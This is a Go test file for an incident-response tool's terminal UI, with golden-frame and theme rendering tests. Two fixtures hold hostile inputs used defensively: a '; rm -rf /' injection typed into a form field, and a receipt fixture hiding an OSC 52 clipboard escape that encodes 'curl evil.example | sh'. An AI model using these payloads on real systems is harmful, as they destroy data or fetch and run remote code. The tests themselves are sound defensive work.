package tui

import (
	"bytes"
	"io"
	"strings"
	"testing"
	"time"

	tea "github.com/charmbracelet/bubbletea"
	"github.com/charmbracelet/lipgloss"
	"github.com/charmbracelet/x/ansi"
	"github.com/charmbracelet/x/exp/golden"
	"github.com/charmbracelet/x/exp/teatest"
	"github.com/muesli/termenv"
	"github.com/tminus-ir/tminus/domain"
)

// TestGolden runs the real bubbletea program (teatest) on the scenario with the clock
// fixed and the Ascii profile forced, and compares the final frame with testdata/. Run
// with -update after a deliberate change, and read the diff before committing it.
//
// Every theme is rendered; in the Ascii profile they must all read the same, which is
// the point (TestThemesInColor checks that colour is added on top of the same text).
func TestGolden(t *testing.T) {
	lipgloss.SetColorProfile(termenv.Ascii) // bubbles' own default styles, too
	approved := func(s *scenario) { s.apply("alice", &domain.RunbookApprove{Proposal: s.pause}, at("03:40:00")) }
	tests := []struct {
		name, theme string
		w, h        int
		keys        []string // "type:TEXT" types, "wait:TEXT" waits for TEXT on screen
		setup       func(*scenario)
	}{
		{"alerts-80x24", "dark", 80, 24, nil, nil},
		{"tasks-80x24", "light", 80, 24, []string{"2"}, nil},
		{"timers-80x24", "high-contrast", 80, 24, []string{"3"}, nil},
		{"runbooks-80x24", "mono", 80, 24, []string{"4"}, nil},
		{"timeline-80x24", "dark", 80, 24, []string{"5"}, nil},
		{"incidents-80x24", "dark", 80, 24, []string{"6"}, nil},
		{"declare-form-80x24", "dark", 80, 24, []string{"D", "type:Relayer key compromise", "tab", "left"}, nil},
		{"help-80x24", "dark", 80, 24, []string{"?"}, nil},
		{"propose-form-80x24", "dark", 80, 24, []string{"4", "j", "j", "j", "p", "wait:Propose host-quarantine", "enter",
			"type:; rm -rf /", "wait:does not match"}, nil},
		{"approve-dialog-80x24", "dark", 80, 24, []string{"4", "A", "wait:exact command"}, nil},
		{"exec-dialog-80x24", "mono", 80, 24, []string{"4", "x", "wait:runs exactly"}, approved},
		{"exec-dialog-160x48", "dark", 160, 48, []string{"4", "x", "wait:runs exactly"}, approved},
		{"everything-160x48", "dark", 160, 48, nil, nil},
		{"everything-160x48-mono", "mono", 160, 48, []string{"5"}, nil},
		{"too-small-40x10", "dark", 40, 10, nil, nil},
		// Below 80 columns: every tab still on the bar, the header cut between words.
		{"incidents-60x14", "mono", 60, 14, []string{"6"}, nil},
		{"roster-66x20", "dark", 66, 20, []string{"7"}, nil},
		{"alerts-72x24", "dark", 72, 24, nil, nil},
		{"timers-79x24", "high-contrast", 79, 24, []string{"3"}, nil},
		// The run's output read back: colour dropped, the clipboard write the host
		// slipped into it shown as text, the title on one line with the short hash.
		{"output-viewer-80x24", "dark", 80, 24, []string{"4", "o", "wait:transactionHash", "G"},
			func(s *scenario) { s.executed([]byte(castReceipt), nil) }},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			s := newScenario(t)
			if tt.setup != nil {
				tt.setup(s)
			}
			goldenRun(t, s.fake, tt.theme, tt.w, tt.h, tt.keys)
		})
	}
}

// goldenWait bounds each wait for the screen; WaitFor returns as soon as the text is
// there, so only a hang pays it, and a loaded CI box never does.
const goldenWait = 20 * time.Second

// goldenRun runs the real bubbletea program (teatest) over f at w x h in theme, sends
// keys ("type:TEXT" types TEXT, "wait:TEXT" waits for TEXT on screen: a key acting
// through a command takes effect a moment later), and compares the final frame with
// the test's golden file.
func goldenRun(t *testing.T, f *fake, themeName string, w, h int, keys []string) {
	t.Helper()
	m := New(f, Options{Renderer: asciiRenderer(), Theme: theme(t, themeName), Now: f.now, Location: time.UTC})
	tm := teatest.NewTestModel(t, m, teatest.WithInitialTermSize(w, h))
	want := "Vault drain"
	if w < minW {
		want = "too small"
	}
	teatest.WaitFor(t, tm.Output(), func(b []byte) bool { return bytes.Contains(b, []byte(want)) },
		teatest.WithDuration(goldenWait))
	for _, k := range keys {
		if text, ok := strings.CutPrefix(k, "type:"); ok {
			tm.Type(text)
			continue
		}
		if text, ok := strings.CutPrefix(k, "wait:"); ok {
			teatest.WaitFor(t, tm.Output(), func(b []byte) bool { return bytes.Contains(b, []byte(text)) },
				teatest.WithDuration(goldenWait))
			continue
		}
		tm.Send(keyMsg(k))
	}
	if err := tm.Quit(); err != nil {
		t.Fatal(err)
	}
	golden.RequireEqual(t, []byte(tm.FinalModel(t, teatest.WithFinalTimeout(goldenWait)).View()))
}

// castReceipt is what `cast send` prints for a mined transaction, with the colour cast
// uses and a line a compromised RPC endpoint could have slipped in.
const castReceipt = "\n" +
	"\x1b[1mblockHash\x1b[0m            0x4f3c1e9a7b2d8c6e5f0a1b2c3d4e5f60718293a4b5c6d7e8f90a1b2c3d4e5f6a\n" +
	"\x1b[1mblockNumber\x1b[0m          19442007\n" +
	"contractAddress      \n" +
	"cumulativeGasUsed    12894211\n" +
	"effectiveGasPrice    23100000000\n" +
	"from                 0x9a1B7c3D5e7F9a1b3C5d7E9f1A3b5C7d9E1f3A5b\n" +
	"gasUsed              28934\n" +
	"logs                 [{\"address\":\"0x5e4e65926ba27467555eb562121fac00d24e9dd2\",\"topics\":[\"0x62e78cea01bee320cd4e420270b5ea74000d11b0c9f74754ebdbfc544b05a258\"],\"data\":\"0x\"}]\n" +
	"logsBloom            0x00000000000000000000000000000000000000000000000000000000000000000000\n" +
	"root                 \n" +
	"status               1 (success)\n" +
	"transactionHash      0x7d2e4f6a8b0c1d3e5f7a9b1c3d5e7f9a1b3c5d7e9f1a3b5c7d9e1f3a5b7c9d1e\n" +
	"transactionIndex     42\n" +
	"type                 2\n" +
	"blobGasPrice         \n" +
	"blobGasUsed          \n" +
	"to                   0x5e4e65926ba27467555eb562121fac00d24e9dd2\n" +
	"\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07\x1b[2K\r" +
	"paused()             true\n" +
	"\tchecked at\tblock 19442007\n"

// TestThemesInColor renders each theme with full colour: the text must be the Ascii
// text exactly (colour adds, never replaces), and only mono may be colourless.
func TestThemesInColor(t *testing.T) {
	plain := newHarness(t, newScenario(t).fake, 80, 24).screen()
	for _, name := range []string{"dark", "light", "high-contrast", "mono"} {
		t.Run(name, func(t *testing.T) {
			s := newScenario(t)
			r := lipgloss.NewRenderer(io.Discard)
			r.SetColorProfile(termenv.TrueColor)
			m := New(s.fake, Options{Renderer: r, Theme: theme(t, name), Now: s.now, Location: time.UTC})
			m.Update(tea.WindowSizeMsg{Width: 80, Height: 24})
			v := m.View()
			if got := ansi.Strip(v); got != plain {
				t.Errorf("%s reads differently from Ascii:\n%s\nwant:\n%s", name, got, plain)
			}
			if colour := strings.Contains(v, "38;2;"); colour != (name != "mono") {
				t.Errorf("%s: colour = %v", name, colour)
			}
		})
	}
}
